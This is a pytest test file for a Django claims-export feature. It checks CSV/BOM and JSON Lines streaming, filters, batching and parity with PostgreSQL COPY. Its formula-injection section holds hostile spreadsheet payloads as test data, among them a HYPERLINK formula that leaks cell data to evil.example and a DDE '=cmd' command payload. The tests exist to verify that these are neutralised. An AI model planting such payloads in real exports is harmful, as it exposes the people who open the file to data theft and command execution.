"""Streamed exports: CSV (UTF-8 with BOM) and JSON Lines over HTTP and the command line."""

import csv
import io
import json

from django.core.management import call_command
from django.db import connection
from django.http import StreamingHttpResponse

from articles.models import Article
from claims import exports
from claims.exports import CSV_COLUMNS
from claims.services import SourceInput, claim_record_verdict
from tests.factories import make_article, make_claim, make_claims

SOURCE = SourceInput(url="https://stats.example/t1", title="Table 1")
KOREAN = '정부는 "35개국"에 친서를 보냈다, 그리고\n5개국 정상과 통화했다.'


def body_of(response) -> bytes:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response)


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM for spreadsheets"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_export_streams_utf8_with_bom_and_keeps_korean_text(team, viewer):
    article = make_article(sentences=[KOREAN], language="ko", outlet="뉴스핌")
    [claim] = make_claims(article, figures=[{"text": "35개국", "value": "35"}])
    claim_record_verdict(claim=claim, reviewer=team["alice"], verdict="verified", sources=[SOURCE])

    response = viewer.get("/api/v1/export/claims.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="claims.csv"' in response["Content-Disposition"]
    [row] = read_csv(body_of(response))
    assert tuple(row) == CSV_COLUMNS
    assert row["text"] == KOREAN
    assert row["outlet"] == "뉴스핌"
    assert row["status"] == "verified"
    assert row["language"] == "ko"
    assert json.loads(row["figures"]) == [{"text": "35개국", "value": "35"}]
    assert row["article_published_at"] == "2025-01-01T09:00:00.000000Z"
    assert row["updated_at"].endswith("Z")
    assert row["is_current"] == "true"
    assert float(row["score"]) == 0.5


def test_csv_export_applies_the_list_filters(team, viewer):
    verified, other = make_claim(), make_claim()
    claim_record_verdict(
        claim=verified, reviewer=team["alice"], verdict="verified", sources=[SOURCE]
    )
    rows = read_csv(body_of(viewer.get("/api/v1/export/claims.csv?status=verified")))
    assert [int(r["id"]) for r in rows] == [verified.pk]
    rows = read_csv(body_of(viewer.get(f"/api/v1/export/claims.csv?article={other.article_id}")))
    assert [int(r["id"]) for r in rows] == [other.pk]


def test_csv_export_of_many_claims_is_in_id_order_across_batches(viewer, monkeypatch, db):
    monkeypatch.setattr(exports, "BATCH", 3)
    claims = make_claims(make_article(sentences=[f"Item {i} costs {i} won." for i in range(8)]))
    rows = read_csv(body_of(viewer.get("/api/v1/export/claims.csv")))
    assert [int(r["id"]) for r in rows] == [c.pk for c in claims]


def test_jsonl_export_has_one_api_claim_record_a_line(team, viewer):
    claim = make_claim()
    make_claim()
    claim_record_verdict(claim=claim, reviewer=team["alice"], verdict="verified", sources=[SOURCE])

    response = viewer.get("/api/v1/export/claims.jsonl?status=verified")

    assert response["Content-Type"] == "application/x-ndjson"
    lines = body_of(response).decode().splitlines()
    assert len(lines) == 1
    record = json.loads(lines[0])
    listed = viewer.get("/api/v1/claims/?status=verified").json()["results"][0]
    assert record == listed


def test_jsonl_export_walks_batches_in_a_constant_number_of_queries_each(
    viewer, monkeypatch, django_assert_num_queries, db
):
    monkeypatch.setattr(exports, "BATCH", 4)
    make_claims(make_article(sentences=[f"Item {i} costs {i} won." for i in range(10)]))
    response = viewer.get("/api/v1/export/claims.jsonl")
    # SQLite: 3 batches of (claims, reviews, suggestions, checks) and the empty batch that
    # ends it. PostgreSQL: one COPY on the raw connection, which Django does not count.
    expected = 0 if connection.vendor == "postgresql" else 13
    with django_assert_num_queries(expected):
        lines = body_of(response).splitlines()
    assert len(lines) == 10
    assert [json.loads(line)["id"] for line in lines] == sorted(
        json.loads(line)["id"] for line in lines
    )


def test_bad_export_filter_is_a_json_400(viewer, db):
    response = viewer.get("/api/v1/export/claims.csv?status=maybe")
    assert response.status_code == 400
    assert "status" in response.json()


def test_export_claims_command_writes_csv_to_stdout(team):
    claim = make_claims(make_article(sentences=[KOREAN], language="ko"))[0]
    out = io.StringIO()
    call_command("export_claims", "--format", "csv", stdout=out)
    text = out.getvalue()
    assert text.startswith("\ufeff")
    [row] = list(csv.DictReader(io.StringIO(text[1:])))
    assert int(row["id"]) == claim.pk and row["text"] == KOREAN


def test_export_claims_command_matches_the_http_export(team, viewer):
    claim = make_claim()
    make_claim()
    claim_record_verdict(claim=claim, reviewer=team["alice"], verdict="disputed", sources=[SOURCE])
    exports_of = {}
    for fmt, url in [
        ("csv", "/api/v1/export/claims.csv?status=disputed"),
        ("jsonl", "/api/v1/export/claims.jsonl?status=disputed"),
    ]:
        out = io.StringIO()
        call_command("export_claims", "--format", fmt, "--status", "disputed", stdout=out)
        assert out.getvalue().encode() == body_of(viewer.get(url)), fmt
        exports_of[fmt] = out.getvalue()
    # Both exports hold the disputed claim, and only it.
    [row] = read_csv(exports_of["csv"].encode())
    assert (int(row["id"]), row["text"], row["status"]) == (claim.pk, claim.text, "disputed")
    [line] = exports_of["jsonl"].splitlines()
    record = json.loads(line)
    assert (record["id"], record["text"], record["status"]) == (claim.pk, claim.text, "disputed")


def test_export_claims_command_writes_claimreview_jsonld(team):
    claim = make_claim()
    claim_record_verdict(claim=claim, reviewer=team["alice"], verdict="verified", sources=[SOURCE])
    out = io.StringIO()
    call_command("export_claims", "--format", "claimreview", stdout=out)
    document = json.loads(out.getvalue())
    assert document["@context"] == "https://schema.org"
    assert [r["claimReviewed"] for r in document["@graph"]] == [claim.text]


def test_csv_is_the_same_bytes_from_postgres_copy_and_from_python(db):
    figures = [
        {
            "text": "약 6700억원",
            "value": "670000000000",
            "unit": "KRW",
            "kind": "money",
            "start": 3,
            "end": 11,
            "approximate": True,
        }
    ]
    make_claims(make_article(sentences=[KOREAN, "Exports rose 3.5 percent."]), figures=figures)
    claims = exports.Claim.objects.all()
    python = b"".join(exports._python_csv_chunks(claims))
    assert python.count(b"\n") >= 2
    if connection.vendor == "postgresql":
        assert b"".join(exports._copy_chunks(claims)) == python
    else:
        assert b"".join(exports.csv_chunks(claims)) == exports.csv_header() + python


def test_a_download_abandoned_midway_leaves_the_connection_usable(db, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_BYTES", 10)
    make_claims(make_article(sentences=[f"Item {i} costs {i} won." for i in range(50)]))
    chunks = exports.csv_chunks(exports.Claim.objects.all())
    next(chunks), next(chunks)
    chunks.close()  # what the server does when the client goes away
    assert exports.Claim.objects.count() == 50


def test_claim_records_are_the_same_built_by_postgres_or_by_python(team):
    article = make_article(sentences=[KOREAN, "Exports rose 3.5 percent."], language="ko")
    claims = make_claims(article, figures=[{"text": "35개국", "value": "35", "start": 4}])
    claim_record_verdict(
        claim=claims[0], reviewer=team["alice"], verdict="verified", sources=[SOURCE, SOURCE]
    )
    claim_record_verdict(claim=claims[0], reviewer=team["bob"], verdict="unverifiable")
    python = [
        json.loads(exports.dumps(r))
        for batch in exports.claim_batches(exports.Claim.objects.all())
        for r in batch
    ]
    if connection.vendor == "postgresql":
        built = exports.claim_json(exports.Claim.objects.order_by("id"))
        assert [json.loads(row["json"]) for row in built] == python
    lines = b"".join(exports.jsonl_chunks(exports.Claim.objects.all())).splitlines()
    assert [json.loads(line) for line in lines] == python


# Issue 17 item 4: formula injection --------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click").',
    "+1 more country joined.",
    "-3.5 percent was the growth.",
    "@SUM(1+1) is a formula.",
    "\tTabbed sentence.",
    "\rCarriage sentence.",
    "'=already neutral.",
    "''+twice neutral.",
    "'plain apostrophe.",
    "Plain sentence; =1+1, and\t@more.",
    '=1+2";=1+2.',
    "평범한 문장이다.",
]


def hostile_claims() -> list:
    article = make_article(sentences=HOSTILE, outlet="@Outlet")
    Article.objects.filter(pk=article.pk).update(
        title="=cmd|' /C calc'!A0", url="+https://news.example/x", language="-ko"
    )
    claims = make_claims(article, figures=[{"text": "-3.5", "value": "-3.5", "kind": "number"}])
    attributions = ["=2+3", "", "'@who", "-the ministry", "the ministry"]
    for claim, attribution in zip(claims, attributions, strict=False):
        exports.Claim.objects.filter(pk=claim.pk).update(attribution=attribution)
    make_claims(make_article(sentences=["An ordinary claim."], outlet="Wire"))
    return claims


def undo(cell: str) -> str:
    """The README's rule for reading a free-text cell back."""
    if cell.startswith("'") and cell.lstrip("'")[:1] in exports.FORMULA_STARTS:
        return cell[1:]
    return cell


FREE_TEXT_SOURCES = {
    "article_title": "article__title",
    "article_url": "article__url",
    "outlet": "article__outlet__name",
    "language": "article__language",
    "text": "text",
    "attribution": "attribution",
}


def test_csv_neutralises_formulas_in_every_free_text_cell(viewer):
    hostile_claims()
    data = body_of(viewer.get("/api/v1/export/claims.csv"))
    rows = read_csv(data)
    stored = {
        row["id"]: row
        for row in exports.Claim.objects.values("id", *FREE_TEXT_SOURCES.values(), "figures")
    }
    assert set(exports.FREE_TEXT) == set(FREE_TEXT_SOURCES)
    assert len(rows) == len(HOSTILE) + 1
    for row in rows:
        for column, source in FREE_TEXT_SOURCES.items():
            cell, original = row[column], stored[int(row["id"])][source] or ""
            assert cell[:1] not in exports.FORMULA_STARTS, (column, cell)
            assert undo(cell) == original, (column, cell)
        # Data, not free text: a number, a time, JSON (a figure's -3.5 inside it), a word.
        assert float(row["score"]) == 0.5 and row["figures"].startswith("[")
        assert row["kind"] == "statistical" and row["updated_at"][:2] == "20"
    texts = {row["text"] for row in rows}
    assert "'-3.5 percent was the growth." in texts  # a claim's text is text
    assert "''=already neutral." in texts and "'''+twice neutral." in texts
    assert "'plain apostrophe." in texts  # no trigger after it: left alone
    assert "'\tTabbed sentence." in texts and "'\rCarriage sentence." in texts
    by_text = {row["text"]: row for row in rows}
    hyperlink = by_text["'" + HOSTILE[0]]
    assert (hyperlink["article_title"], hyperlink["outlet"]) == ("'=cmd|' /C calc'!A0", "'@Outlet")
    assert (hyperlink["article_url"], hyperlink["language"]) == ("'+https://news.example/x", "'-ko")
    assert hyperlink["attribution"] == "'=2+3"
    assert json.loads(hyperlink["figures"])[0]["value"] == "-3.5"
    # OWASP's own example, quoted and its quotes doubled.
    assert b'"\'=1+2"";=1+2."' in data


def test_csv_quotes_every_cell_so_no_separator_starts_a_cell(viewer):
    """Whatever separator a spreadsheet assumes (a comma, a semicolon in much of Europe, a
    tab), a separator inside a value is inside quotes and starts no cell."""
    hostile_claims()
    lines = body_of(viewer.get("/api/v1/export/claims.csv")).decode("utf-8-sig").split("\n")
    records = [line for line in lines[1:] if line.startswith('"')]
    assert len(records) == len(HOSTILE) + 1
    for separator in (",", ";", "\t", "|"):
        for record in records:
            cells, cell, quoted = [], "", False
            for char in record:  # a reader that keeps track of quotes, as spreadsheets do
                if char == '"':
                    quoted = not quoted
                elif char == separator and not quoted:
                    cells.append(cell)
                    cell = ""
                    continue
                cell += char
            cells.append(cell)
            for cell in cells:
                assert cell.lstrip()[:1] not in exports.FORMULA_STARTS, (separator, cell)


def test_hostile_csv_is_the_same_bytes_from_postgres_copy_and_from_python(db):
    hostile = hostile_claims()
    # Whole-number scores: PostgreSQL prints 0 and 1 where Python's repr says 0.0 and 1.0.
    for claim, score in zip(hostile, [0.0, 1.0, 1e-05, 0.1 + 0.2], strict=False):
        exports.Claim.objects.filter(pk=claim.pk).update(score=score)
    claims = exports.Claim.objects.all()
    python = b"".join(exports._python_csv_chunks(claims))
    assert python.count(b"\n") >= len(HOSTILE) + 1
    assert b',"0","[' in python and b',"1","[' in python
    if connection.vendor == "postgresql":
        assert b"".join(exports._copy_chunks(claims)) == python
    else:
        assert b"".join(exports.csv_chunks(claims)) == exports.csv_header() + python
